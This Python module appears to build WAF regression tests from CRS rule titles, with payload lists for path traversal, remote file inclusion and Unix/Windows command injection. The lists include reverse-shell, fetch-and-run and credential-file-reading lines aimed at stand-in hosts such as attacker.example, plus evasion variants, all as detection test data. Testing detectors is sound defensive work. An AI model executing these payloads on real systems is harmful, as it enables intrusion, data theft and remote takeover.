"""Blind positive regression tests for the command-injection, local-file and remote-file-inclusion rules, written
by an eleventh author from the detection titles alone (CRS 3.3.4 request rules 930100-932200 at paranoia levels
1-2, and the request-rule titles CRS 4.x added for the same families).

The angle: each payload sits the way it sits inside a real request. After legitimate data in the same value (a
search term, a user id, a file name, a host to ping, a sentence), wrapped in the value's own syntax (a JSON
string, a JSON list, a quoted CSV cell), with the casing, spacing and encoding real attackers use against PHP
CMSs, Java apps, Node APIs, CGI scripts and IIS. Per title: the canonical attack the title names, one test per
alternative of its family (keywords, commands, files, dialects), then the variants a good rule must still catch
(other quoting, casing, whitespace and comment substitutes, concatenation, URL / double-URL / overlong / %u
encodings, HTML entities, unicode escapes in JSON).

Families and sub-families (one sub-family per title, kebab-case from the title):
- lfi: path-traversal-encoded (930100), path-traversal-dotdot (930110), os-file-access (930120),
  restricted-file-access (930130), os-file-access-headers and path-traversal-triple-dot (4.x titles).
- rfi: rfi-url-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain-reference (931130, PL2).
- rce: unix-command-injection (932100), unix-command-injection-more (932105), windows-command-injection (932110),
  windows-command-injection-more (932115), windows-powershell-command (932120), unix-shell-expression (932130),
  windows-for-if-command (932140), direct-unix-command-execution (932150), unix-shell-code (932160),
  shellshock-headers (932170), shellshock-args (932171), restricted-file-upload (932180), rce-bypass-technique
  (932200, PL2), and the 4.x titles unix-command-no-evasion, unix-command-evasion, unix-shell-alias,
  unix-shell-history, unix-pipes-short-commands, sqlite-system-command, smtp-imap-pop3-command,
  windows-cmd-powershell-evasion, unix-shell-code-headers, direct-unix-command-absolute-path.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form
with its csrf_token, JSON of /api/users and PATCH /api/users/42, cookie, User-Agent, Referer, another header,
a parameter name, an XML body, a multipart field or file name, the URL path), and once the way a WAF's
regression suite sends it: to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query string, a form body, a JSON body,
an XML body, a raw form-typed body that is not key=value, or in the User-Agent, Referer, a custom header or a
cookie (placements prefixed "rs-"). Header-only titles (Shellshock, the 4.x header titles) use header places
only, the upload title uses multipart file names and the file-name headers, the parameter-name RFI title uses
name=value pairs. The benign half carries the same words innocently: Slack messages and bios, prose typed into
the admin search, searches, documentation links, uploads with ordinary file names, ordinary browser and client
headers, ordinary requests to the non-route paths.

Authorship and independence: written from general knowledge and the titles alone, without reading the WAF
rules or engine, the CRS rules or regression tests, any other blind set, or any public payload list; measured
once through the real stack on unchanged code, payloads not changed afterwards. Deterministic: no clock, no
randomness (tokens are hashes of the record number).
"""

from __future__ import annotations

import hashlib
import json
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import print_records

NAME = "hundredsecond"

BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/126.0.0.0 Safari/537.36")
MAC_UA = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.5 Safari/605.1.15")
SUITE_UA = "Mozilla/5.0 (compatible; waf-regression-suite/1.0)"


# A payload: its text as the attacker types it, and how it is encoded.
#   ""      plain: each place encodes it as a client does (URL-encoding in URLs and forms, JSON string escaping)
#   "raw"   already encoded by the attacker (%2e, %252f, %c0%af, %u2215 ...): goes on the wire as written
#   "jsonu" in a JSON body every non-alphanumeric character is written as a \\uXXXX escape (plain elsewhere)
@dataclass(frozen=True)
class P:
    text: str
    enc: str = ""


def raw(text: str) -> P:
    return P(text, "raw")


def ju(text: str) -> P:
    return P(text, "jsonu")


@dataclass(frozen=True)
class Title:
    category: str
    sub: str
    payloads: list[P | str]
    ours: tuple[str, ...] = ()
    rs: tuple[str, ...] = ()
    pair: bool = False   # payloads are name=value pairs (the parameter name is part of the attack)


OURS = ("query", "form", "json", "cookie", "header:User-Agent", "path", "param-name", "xml", "multipart-field",
        "header:Referer", "json-patch", "header:X-Api-Context")
RS = ("rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie")
HEADERS_OURS = ("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Context", "header:X-Forwarded-For")
HEADERS_RS = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie")
ARGS_OURS = ("query", "form", "json", "multipart-field", "xml", "json-patch", "param-name")
ARGS_RS = ("rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-xml")
UPLOAD_OURS = ("multipart-filename", "multipart-filename", "header:X-File-Name")
UPLOAD_RS = ("rs-multipart-filename", "rs-header:X-Filename", "rs-multipart-filename")
PAIR_OURS = ("query", "form", "json", "multipart-field", "cookie", "json-patch")
PAIR_RS = ("rs-query", "rs-form", "rs-json", "rs-cookie")

# ---------------------------------------------------------------------------------------------------------------
# lfi
# ---------------------------------------------------------------------------------------------------------------

PATH_TRAVERSAL_ENCODED = Title("lfi", "path-traversal-encoded", [
    raw("reports%2f..%2f..%2f..%2fetc%2fpasswd"),
    raw("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    raw("invoice-2291.pdf%252f..%252f..%252f..%252fetc%252fpasswd"),
    raw("%252e%252e%252f%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
    raw("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    raw("images/..%c0%af..%c0%af..%c0%afboot.ini"),
    raw("scripts/..%c1%1c..%c1%1cwinnt/system32/cmd.exe?/c+dir"),
    raw("..%u2216..%u2216..%u2216windows%u2216win.ini"),
    raw("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd"),
    raw("help%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
    raw("%2E%2E%5C%2E%2E%5C%2E%2E%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts"),
    raw(".%2e/.%2e/.%2e/.%2e/proc/self/environ"),
    raw("..%255c..%255c..%255cboot.ini"),
    ju("templates/../../../../etc/passwd"),
])

PATH_TRAVERSAL_DOTDOT = Title("lfi", "path-traversal-dotdot", [
    "docs/../../../../etc/passwd",
    "images\\..\\..\\..\\windows\\win.ini",
    "....//....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "/var/www/html/uploads/../../../../etc/shadow",
    "C:\\inetpub\\wwwroot\\..\\..\\boot.ini",
    "static/../../WEB-INF/web.xml",
    "..//..//..//..//etc//group",
    "/app/..;/..;/manager/html",
    "[\"avatar.png\",\"../../../../../../proc/self/cmdline\"]",
    "\"Ann\",\"../../../../etc/passwd\",\"admin\"",
    "..\\/..\\/..\\/..\\/etc/passwd",
    raw("lang/../../../../../etc/passwd%00.php"),
    "theme=dark&tpl=../../../../app/config/parameters.yml",
])

OS_FILE_ACCESS = Title("lfi", "os-file-access", [
    "/etc/passwd",
    "export.csv /etc/shadow",
    "file:///proc/self/environ",
    "c:/windows/win.ini",
    "C:\\boot.ini",
    "/home/ubuntu/.ssh/id_rsa",
    "/root/.bash_history",
    "/var/log/apache2/access.log",
    "[\"logo.png\",\"/proc/self/fd/0\"]",
    "/etc/mysql/my.cnf",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/etc/./passwd",
    raw("%2Fetc%2Fpasswd"),
    ju("/etc/passwd"),
])

RESTRICTED_FILE_ACCESS = Title("lfi", "restricted-file-access", [
    "/.git/config",
    "assets/.git/HEAD",
    "/.env",
    "app/.env.production",
    "/.htaccess",
    "admin/.htpasswd",
    "/web.config",
    "WEB-INF/web.xml",
    "/.svn/entries",
    "uploads/.DS_Store",
    "/wp-config.php.bak",
    "/.user.ini",
    "/.GIT/config",
    raw("%2e%67it%2fconfig"),
    "[\"notes.txt\",\".aws/credentials\"]",
])

OS_FILE_ACCESS_HEADERS = Title("lfi", "os-file-access-headers", [
    "https://app.example.com/download?file=/etc/passwd",
    "/etc/shadow",
    "Mozilla/5.0 (X11; Linux x86_64) /etc/passwd",
    "lang=../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "/proc/self/environ",
    "https://app.example.com/view?doc=..%2f..%2f..%2fetc%2fhosts",
    "/root/.ssh/authorized_keys",
    "file:///c:/boot.ini",
    "/var/log/nginx/error.log",
    raw("%2fetc%2fgroup"),
], ours=HEADERS_OURS, rs=HEADERS_RS)

PATH_TRAVERSAL_TRIPLE_DOT = Title("lfi", "path-traversal-triple-dot", [
    "files/.../.../.../etc/passwd",
    ".../...//.../...//etc/passwd",
    "....\\....\\....\\windows\\win.ini",
    raw("%2e%2e%2e/%2e%2e%2e/%2e%2e%2e/etc/hosts"),
    ".../../.../../etc/shadow",
    "/.../.../.../boot.ini",
    raw("...%2f...%2f...%2fproc%2fself%2fenviron"),
    raw("..%2e/..%2e/..%2e/etc/passwd"),
    "img/..../..../..../etc/passwd",
    ju("docs/.../.../.../etc/passwd"),
    "\"report.pdf\",\".../.../.../etc/passwd\"",
])

# ---------------------------------------------------------------------------------------------------------------
# rfi
# ---------------------------------------------------------------------------------------------------------------

RFI_IP = Title("rfi", "rfi-url-ip-address", [
    "http://203.0.113.45/shell.txt",
    "https://198.51.100.23/r57.php",
    "ftp://192.0.2.14/pub/inc.txt",
    "HTTP://203.0.113.99:8080/x.txt",
    "http://198.51.100.7/c99.txt?",
    "ftps://203.0.113.8/a.php",
    "http://user@203.0.113.77/templates/header.inc",
    "http://[2001:db8::1]/shell.txt",
    "http://3405803777/shell.php",
    raw("http%3A%2F%2F203.0.113.45%2Fshell.txt"),
    "\\\\203.0.113.5\\share\\evil.php",
    "[\"http://198.51.100.9/bot.txt\"]",
    "https://203.0.113.12//modules/mod.inc",
])

RFI_PARAM = Title("rfi", "rfi-vulnerable-param-name", [
    "mosConfig_absolute_path=http://attacker.example/c99.txt",
    "_CONF[path]=http://attacker.example/shell.txt",
    "_SERVER[DOCUMENT_ROOT]=https://attacker.example/inc/",
    "GALLERY_BASEDIR=http://attacker.example/g/",
    "path[docroot]=ftp://attacker.example/pub/",
    "appserv_root=http://attacker.example/r57.txt",
    "config[root_dir]=https://evil.example.net/",
    "phpbb_root_path=http://evil.example.net/x.txt",
    "_PHPLIB[libdir]=http://evil.example.net/lib/",
    "include=http://evil.example.net/shell.txt",
    "page=https://evil.example.net/r57.txt",
    "template=ftp://files.attacker.example/tpl.txt",
    "file=HTTP://ATTACKER.EXAMPLE/inc.txt",
    "module=http://attacker.example/mod.txt",
], ours=PAIR_OURS, rs=PAIR_RS, pair=True)

RFI_QMARK = Title("rfi", "rfi-trailing-question-mark", [
    "http://attacker.example/shell.txt?",
    "https://evil.example.net/r57.txt??",
    "ftp://attacker.example/c99.txt?",
    "http://attacker.example/x.txt?&",
    raw("http://attacker.example/shell.txt%3F"),
    "HTTPS://ATTACKER.EXAMPLE/SHELL.TXT?",
    raw("http://attacker.example/shell.txt?%00"),
    "http://203.0.113.5/k.txt?",
    "http://attacker.example:8080/cmd.txt?",
    "http://attacker.example/shell.txt???",
    "[\"http://attacker.example/inc.txt?\"]",
    raw("http://attacker.example/shell.txt%253F"),
    ju("http://attacker.example/shell.txt?"),
])

RFI_OFF_DOMAIN = Title("rfi", "rfi-off-domain-reference", [
    "https://attacker.example/payload.php",
    "http://evil.example.net/inc/config.txt",
    "ftp://ftp.attacker.example/pub/x.txt",
    "http://attacker.example:81/",
    "HtTpS://evil.example.net/s.txt",
    "http://evil.example.net/x.txt#",
    raw("https%3A%2F%2Fevil.example.net%2Fshell.txt"),
    "ftps://evil.example.net/a.php",
    "http://app.example.com.attacker.example/x.txt",
    "https://evil.example.net/tpl/header.tpl",
    "[\"https://evil.example.net/a.txt\"]",
    ju("https://evil.example.net/inc.txt"),
])

# ---------------------------------------------------------------------------------------------------------------
# rce, CRS 3.3 titles
# ---------------------------------------------------------------------------------------------------------------

UNIX_CMD = Title("rce", "unix-command-injection", [
    "john.smith; cat /etc/passwd",
    "8.8.8.8 | id",
    "report.pdf && ls -la /var/www",
    "42 || uname -a",
    "invoice.txt;wget http://attacker.example/x.sh -O /tmp/x.sh",
    raw("127.0.0.1%0acurl%20http://attacker.example/s%7csh"),
    "test;nc -e /bin/sh 203.0.113.5 4444",
    "avatar.png|chmod 777 /tmp/x",
    "bob; echo hacked > /var/www/html/x.txt",
    "sales;ps aux",
    "q2\tfind / -perm -4000",
    "1;sleep 10",
    "\"Ann\",\"x;cat /etc/hosts\",\"dev\"",
    ju("example.com; cat /etc/passwd"),
])

UNIX_CMD_MORE = Title("rce", "unix-command-injection-more", [
    "8.8.8.8; ping -c 4 203.0.113.5",
    "joe | python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "file.txt; perl -e 'print 1'",
    "x && php -r 'system(\"id\");'",
    "y; ruby -rsocket -e 'exit'",
    "z | telnet 203.0.113.5 23",
    "a; tftp -i 203.0.113.5 GET x",
    "b;useradd -m eve",
    "c; chown nobody /tmp/x",
    "d; netstat -an",
    "e;ifconfig",
    "f; touch /tmp/pwn",
    "g&tail -n 20 /etc/passwd",
    raw("h%3b%20xterm%20-display%20203.0.113.5:1"),
])

WIN_CMD = Title("rce", "windows-command-injection", [
    "report.docx & dir c:\\",
    "8.8.8.8 | type c:\\windows\\win.ini",
    "a && net user",
    "x || ipconfig /all",
    "y & systeminfo",
    "z | whoami /priv",
    "q & cmd /c dir",
    "r & cmd.exe /c ver",
    "s & tasklist",
    "t & copy c:\\windows\\system32\\cmd.exe c:\\inetpub\\wwwroot\\c.exe",
    "u & del /f /q c:\\temp\\*",
    "v | nslookup attacker.example",
    "w & ping -n 5 127.0.0.1",
    "ACME Ltd & DIR C:\\Users",
    raw("x%26%20net%20user"),
])

WIN_CMD_MORE = Title("rce", "windows-command-injection-more", [
    "a & net localgroup administrators eve /add",
    "b | reg query HKLM\\Software\\Microsoft",
    "c & wmic process list brief",
    "d & certutil -urlcache -split -f http://attacker.example/a.exe a.exe",
    "e & bitsadmin /transfer j http://attacker.example/a.exe c:\\temp\\a.exe",
    "f & sc query",
    "g & schtasks /create /tn x /tr c:\\temp\\a.exe /sc once /st 00:00",
    "h & taskkill /f /im msmpeng.exe",
    "i & netsh advfirewall set allprofiles state off",
    "j & mshta http://attacker.example/a.hta",
    "k & rundll32.exe shell32.dll,ShellExec_RunDLL calc",
    "l & regsvr32 /s /n /u /i:http://attacker.example/a.sct scrobj.dll",
    "m & attrib +h c:\\temp\\a.exe",
    "n & wscript c:\\temp\\a.vbs",
])

POWERSHELL = Title("rce", "windows-powershell-command", [
    "report & powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
    "'http://attacker.example/a.ps1')\"",
    "x & powershell.exe -ExecutionPolicy Bypass -File c:\\temp\\a.ps1",
    "Invoke-WebRequest -Uri http://attacker.example/a.exe -OutFile a.exe",
    "iex(iwr http://attacker.example/a -UseBasicParsing)",
    "name; Invoke-Expression $env:x",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\Users -Recurse -Filter *.kdbx",
    "a | powershell -enc SQBFAFgAIAAoAGkAdwByACkA",
    "pwsh -c Get-Process",
    "Invoke-Command -ScriptBlock {whoami}",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "[System.Net.WebClient]::new().DownloadFile('http://attacker.example/a','a.exe')",
    "ticket 4512; Get-Content C:\\Windows\\win.ini",
    "PoWeRsHeLl -NoP -NonI -W Hidden -Exec Bypass -Command Get-Service",
])

UNIX_SHELL_EXPR = Title("rce", "unix-shell-expression", [
    "john$(id)",
    "file`whoami`.txt",
    "$(curl -fsSL http://attacker.example/x|sh)",
    "search $(cat /etc/passwd)",
    "diff <(cat /etc/passwd) x",
    "out >(nc 203.0.113.5 4444)",
    "total $((7*7))",
    "a${PATH:0:1}etc${PATH:0:1}passwd",
    "$(printf '\\x69\\x64')",
    "`echo aWQ=|base64 -d`",
    "name $( sleep 5 )",
    raw("user%24%28id%29"),
    "Ann &#36;&#40;id&#41;",
    ju("bob$(id)"),
])

WIN_FOR_IF = Title("rce", "windows-for-if-command", [
    "for /f \"tokens=*\" %i in ('whoami') do echo %i",
    "x & for /l %i in (1,1,100) do ping -n 1 10.0.0.%i",
    "FOR /R c:\\ %f IN (*.config) DO type %f",
    "y & if exist c:\\windows\\win.ini (type c:\\windows\\win.ini)",
    "z & if not exist c:\\temp\\a.exe certutil -urlcache -f http://attacker.example/a.exe c:\\temp\\a.exe",
    "a & for /d %d in (c:\\users\\*) do dir %d",
    "b|for %a in (a b c) do echo %a",
    "c & IF DEFINED USERNAME echo %USERNAME%",
    "d & if errorlevel 1 del c:\\temp\\x",
    "e & if %USERNAME%==Administrator net user",
    "f &for /f %x in ('dir /b') do @echo %x",
    "g & for /F \"delims=\" %%a in ('ipconfig') do @echo %%a",
    raw("h%26for%20%2Ff%20%25i%20in%20(%27whoami%27)%20do%20%25i"),
])

DIRECT_UNIX = Title("rce", "direct-unix-command-execution", [
    "cat /etc/passwd",
    "id",
    "uname -a",
    "wget http://attacker.example/a.sh",
    "curl -o /tmp/a http://attacker.example/a",
    "nc -lvp 4444 -e /bin/bash",
    "bash -i",
    "ls -la",
    "whoami",
    "python3 -c 'import os;os.system(\"id\")'",
    "sh -c id",
    "perl -e 'exec \"/bin/sh\"'",
    " echo x > /tmp/y",
    "[\"ls -la /\"]",
])

UNIX_SHELL_CODE = Title("rce", "unix-shell-code", [
    "avatar.png;/bin/sh",
    "/bin/bash -c id",
    "x|/usr/bin/python3 -c 'print(1)'",
    "/bin/busybox wget http://attacker.example/x",
    "q; /usr/bin/wget -q http://attacker.example/a",
    "r; /usr/bin/curl http://attacker.example/a",
    "s; /bin/nc.traditional 203.0.113.5 4444",
    "t; /usr/bin/perl -e 1",
    "u; /bin/zsh",
    "v; /usr/bin/env sh",
    "w; /bin//sh",
    "x; /b?n/sh",
    raw("y%3b%2fbin%2fsh"),
    ju("z; /bin/sh"),
])

SHELLSHOCK_HEADERS = Title("rce", "shellshock-headers", [
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "() { _; } >_[$($())] { echo; id; }",
    "(){ :; }; ping -c 3 203.0.113.5",
    "() {:;}; wget -O /tmp/x http://attacker.example/x",
    "()  {  :;  };  /usr/bin/id",
    "() { ignored; }; echo Content-Type: text/plain; echo; id",
    "() { :; }; sleep 10",
    "() { (a)=>\\",
    "() { :; }; /usr/bin/curl http://attacker.example/$(id)",
    raw("%28%29%20%7B%20%3A%3B%20%7D%3B%20id"),
], ours=HEADERS_OURS, rs=HEADERS_RS)

SHELLSHOCK_ARGS = Title("rce", "shellshock-args", [
    "() { :; }; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c 'id'",
    "(){ :; }; echo vulnerable",
    "() { x; }; /usr/bin/wget http://attacker.example/x",
    "() {:;}; sleep 5",
    "()  {  :;};id",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; echo; echo; /bin/ls /",
    raw("%28%29+%7B+%3A%3B+%7D%3B+id"),
    "[\"() { :; }; id\"]",
    ju("() { :; }; id"),
], ours=ARGS_OURS, rs=ARGS_RS)

RESTRICTED_UPLOAD = Title("rce", "restricted-file-upload", [
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".user.ini",
    "php.ini",
    "wp-config.php",
    ".bashrc",
    ".bash_profile",
    "global.asa",
    "global.asax",
    "Web.Config",
    ".HTACCESS",
    "web.config.",
    ".htdigest",
])

RCE_BYPASS = Title("rce", "rce-bypass-technique", [
    "report;c'a't /etc/pa'ss'wd",
    "x;c\"a\"t /etc/passwd",
    "x;w\\h\\o\\a\\m\\i",
    "x;who$@ami",
    "x;cat${IFS}/etc/passwd",
    "x;/???/c?t /???/p??s??",
    "x;/bin/ca* /et*/pass*",
    "x;{cat,/etc/passwd}",
    "x;c$()at /etc/passwd",
    "x;$u cat$u /etc/passwd",
    "x;cat</etc/passwd",
    "x;i\\d",
    "x;ca''t /e''tc/pa''sswd",
    raw("x%3bcat$IFS$9%2fetc%2fpasswd"),
])

# ---------------------------------------------------------------------------------------------------------------
# rce, CRS 4.x titles
# ---------------------------------------------------------------------------------------------------------------

UNIX_NO_EVASION = Title("rce", "unix-command-no-evasion", [
    "q=1; awk 'BEGIN{system(\"id\")}'",
    "img.png; dd if=/etc/passwd",
    "name; base64 /etc/passwd",
    "x | head -n1 /etc/shadow",
    "y; env",
    "z; crontab -l",
    "a; sudo -l",
    "b; openssl s_client -connect 203.0.113.5:443",
    "c; socat tcp:203.0.113.5:4444 exec:sh",
    "d; mkfifo /tmp/f",
    "e; tar czf /tmp/x.tgz /etc",
    "f; gcc /tmp/x.c -o /tmp/x",
    "g && nohup /tmp/x &",
])

UNIX_EVASION = Title("rce", "unix-command-evasion", [
    "doc; c\\at /et\\c/pas\\swd",
    "doc; ca\"\"t /etc/passwd",
    "doc; /???/??t /???/??ss??",
    "doc; $'\\x63\\x61\\x74' /etc/passwd",
    "doc; cat$IFS$9/etc/passwd",
    "doc; c${u}at /etc/passwd",
    "doc; ca$@t /etc/passwd",
    "doc; /bin/c[a]t /etc/passwd",
    "doc; cat /etc/pas?wd",
    "doc; tac$IFS/etc/passwd",
    "doc; {wget,-qO-,http://attacker.example/x}",
    "doc;`echo Y2F0IC9ldGMvcGFzc3dk|base64 -d`",
    "doc; w'h'o'a'm'i",
])

UNIX_ALIAS = Title("rce", "unix-shell-alias", [
    "x; alias ll='cat /etc/passwd'; ll",
    "y | alias",
    "z; alias -p",
    "a; unalias -a",
    "b && alias sudo='sudo '",
    "c; alias ls='rm -rf /tmp/x'",
    "d; \\alias",
    "e;alias x=id;x",
    "f; alias cd='curl http://attacker.example/$PWD'",
    "g`alias`",
])

UNIX_HISTORY = Title("rce", "unix-shell-history", [
    "x; !!",
    "y; !-2",
    "z; !-1:0",
    "a;!cat",
    "b `!-1`",
    "c $(!-3)",
    "d; fc -s",
    "e; history | tail",
    "f; !?passwd?",
    "g; history -c",
    "h; !$",
])

UNIX_PIPES_SHORT = Title("rce", "unix-pipes-short-commands", [
    "user1 | id",
    "list | ls",
    "x | ps",
    "host | w",
    "disk | df -h",
    "size | du -sh /",
    "a | nc 203.0.113.5 80",
    "b | sh",
    "c | od -c /etc/passwd",
    "d | cut -d: -f1 /etc/passwd",
    "e | tac /etc/passwd",
    "f|who",
    "g | awk -F: '{print $1}' /etc/passwd",
])

SQLITE_CMD = Title("rce", "sqlite-system-command", [
    "report\n.system id",
    "notes\n.shell cat /etc/passwd",
    "x\n.import /etc/passwd t",
    "y\n.output /var/www/html/x.php",
    "z\n.load /tmp/x.so",
    "a\n.read /tmp/x.sql",
    "b\n.open /etc/passwd",
    "c\n.once /tmp/out.txt",
    "d\n.cd /",
    raw("e%0a.system%20id"),
    raw("f%0d%0a.shell%20ls%20-la"),
])

MAIL_CMD = Title("rce", "smtp-imap-pop3-command", [
    "ann@example.org\r\nRCPT TO:<x@attacker.example>",
    "bob@example.org\r\nDATA\r\nSubject: hi\r\n.\r\n",
    "c@example.org\nMAIL FROM:<a@attacker.example>",
    "d@example.org\r\nHELO attacker.example",
    "e@example.org\r\nEHLO attacker.example",
    "f@example.org\r\nVRFY root",
    "g@example.org\r\nEXPN admins",
    "inbox\r\na001 LOGIN admin admin",
    "inbox\r\na002 SELECT INBOX",
    "inbox\r\na003 FETCH 1:* (BODY[])",
    "inbox\r\na004 CAPABILITY",
    "mail\r\nUSER admin\r\nPASS admin",
    "mail\r\nRETR 1",
    "mail\r\nDELE 1",
    raw("h@example.org%0d%0aRCPT%20TO:%3Cx@attacker.example%3E"),
])

WIN_EVASION = Title("rce", "windows-cmd-powershell-evasion", [
    "x & c^m^d /c whoami",
    "x & p^o^w^e^r^s^h^e^l^l -c Get-Process",
    "x & cmd /c \"who\"\"ami\"",
    "x & %COMSPEC% /c dir",
    "x & cmd /v:on /c \"set a=who&&set b=ami&&call !a!!b!\"",
    "x & powershell -e SQBFAFgA",
    "x & p\"ower\"shell -c whoami",
    "x &&^w^h^o^a^m^i",
    "x & cmd.exe /k \"dir\"",
    "x & c:\\windows\\system32\\cmd.exe /c ver",
    "x & %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
    "x & CmD /C DiR",
    "x & powershell iex ([char]105+[char]100)",
])

SHELL_CODE_HEADERS = Title("rce", "unix-shell-code-headers", [
    "Mozilla/5.0 ;/bin/bash -c 'id'",
    "curl http://attacker.example/x | /bin/sh",
    "$(wget -qO- http://attacker.example/x|sh)",
    "`/usr/bin/id`",
    "/usr/bin/python -c 'import os;os.system(\"id\")'",
    "nc -e /bin/sh 203.0.113.5 4444",
    "https://app.example.com/;/bin/cat /etc/passwd",
    "x; /bin/sh -i",
    "Mozilla/5.0 $(id)",
    "/bin/busybox telnetd -l /bin/sh",
    raw("%3b%2fbin%2fsh%20-c%20id"),
], ours=HEADERS_OURS, rs=HEADERS_RS)

DIRECT_ABS = Title("rce", "direct-unix-command-absolute-path", [
    "/bin/ls -la",
    "/usr/bin/whoami",
    "/bin/cat /etc/passwd",
    "/usr/bin/wget http://attacker.example/x",
    "/bin/ca? /etc/passwd",
    "/b?n/c?t /e??/p??s??",
    "/usr/b*/id",
    "/usr/bin/env bash",
    "/sbin/reboot",
    "/usr/sbin/useradd eve",
    "/bin/rm -rf /tmp/x",
    "/usr/local/bin/node -e 'process.exit()'",
    "/bin/sh -c 'id'",
])

TITLES = [
    PATH_TRAVERSAL_ENCODED, PATH_TRAVERSAL_DOTDOT, OS_FILE_ACCESS, RESTRICTED_FILE_ACCESS, OS_FILE_ACCESS_HEADERS,
    PATH_TRAVERSAL_TRIPLE_DOT, RFI_IP, RFI_PARAM, RFI_QMARK, RFI_OFF_DOMAIN, UNIX_CMD, UNIX_CMD_MORE, WIN_CMD,
    WIN_CMD_MORE, POWERSHELL, UNIX_SHELL_EXPR, WIN_FOR_IF, DIRECT_UNIX, UNIX_SHELL_CODE, SHELLSHOCK_HEADERS,
    SHELLSHOCK_ARGS, RESTRICTED_UPLOAD, RCE_BYPASS, UNIX_NO_EVASION, UNIX_EVASION, UNIX_ALIAS, UNIX_HISTORY,
    UNIX_PIPES_SHORT, SQLITE_CMD, MAIL_CMD, WIN_EVASION, SHELL_CODE_HEADERS, DIRECT_ABS,
]
UPLOAD_TITLES = {"restricted-file-upload"}

# ---------------------------------------------------------------------------------------------------------------
# encoding and placement
# ---------------------------------------------------------------------------------------------------------------

RS_PATHS = ("/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi")
RS_NAMES = ("foo", "var", "x", "test", "id", "arg1")
OUR_NAMES = ("q", "name", "file", "search", "bio", "title", "department", "url")
RAW_UNSAFE = {" ": "%20", "\"": "%22", "#": "%23", "<": "%3C", ">": "%3E", "\\": "%5C", "^": "%5E",
              "`": "%60", "{": "%7B", "|": "%7C", "}": "%7D", "\t": "%09", "\n": "%0A", "\r": "%0D"}


def _tok(n: int, salt: str, size: int = 22) -> str:
    return hashlib.sha256(f"{NAME}:{salt}:{n}".encode()).hexdigest()[:size]


def _wire(text: str) -> str:
    """An attacker's already-encoded text made safe for the request line (what a client must still escape)."""
    return "".join(RAW_UNSAFE.get(c, c) if ord(c) < 128 else urllib.parse.quote(c) for c in text)


def _url(p: P) -> str:
    """A value as it sits in a query string or a path segment."""
    return _wire(p.text) if p.enc == "raw" else urllib.parse.quote(p.text, safe="")


def _form_value(p: P) -> str:
    return _wire(p.text) if p.enc == "raw" else urllib.parse.quote_plus(p.text)


def _cookie_value(p: P) -> str:
    return _wire(p.text).replace(";", "%3B") if p.enc == "raw" else urllib.parse.quote(p.text, safe="/:=()$'*!~@")


def _header_value(p: P) -> str:
    """A header value: no CR, LF or NUL; other control and non-ASCII characters percent-encoded."""
    out = []
    for c in p.text:
        if c in "\r\n\x00" or ord(c) > 126 or (ord(c) < 32 and c != "\t"):
            out.append(urllib.parse.quote(c))
        else:
            out.append(c)
    return "".join(out)


def _json_body(doc: dict[str, Any], key_path: tuple[str, ...], p: P) -> str:
    """A JSON document with the payload at key_path; "jsonu" payloads written with \\uXXXX escapes."""
    marker = "@@PAYLOAD@@"
    target = doc
    for k in key_path[:-1]:
        target = target[k]
    target[key_path[-1]] = marker
    body = json.dumps(doc, ensure_ascii=False)
    if p.enc == "jsonu":
        enc = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in p.text)
    else:
        enc = json.dumps(p.text, ensure_ascii=False)[1:-1]
    return body.replace(marker, enc)


def _browser_headers(n: int, accept: str = "application/json, text/plain, */*") -> dict[str, str]:
    return {"User-Agent": BROWSER_UA if n % 3 else MAC_UA, "Accept": accept,
            "Accept-Language": "en-US,en;q=0.9" if n % 2 else "en-GB,en;q=0.8,de;q=0.5",
            "Referer": f"https://app.example.com/users?page={n % 7 + 1}",
            "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty",
            "Cookie": f"session={_tok(n, 'session', 32)}; cookie_consent=accepted"}


def _suite_headers() -> dict[str, str]:
    return {"User-Agent": SUITE_UA, "Accept": "*/*"}


def _multipart(fields: list[tuple[str, str, str | None]], n: int) -> tuple[str, str]:
    """(content type, body) of a multipart form: each field (name, value or file content, file name or None)."""
    boundary = f"----WebKitFormBoundary{_tok(n, 'boundary', 16)}"
    parts = []
    for name, value, filename in fields:
        if filename is None:
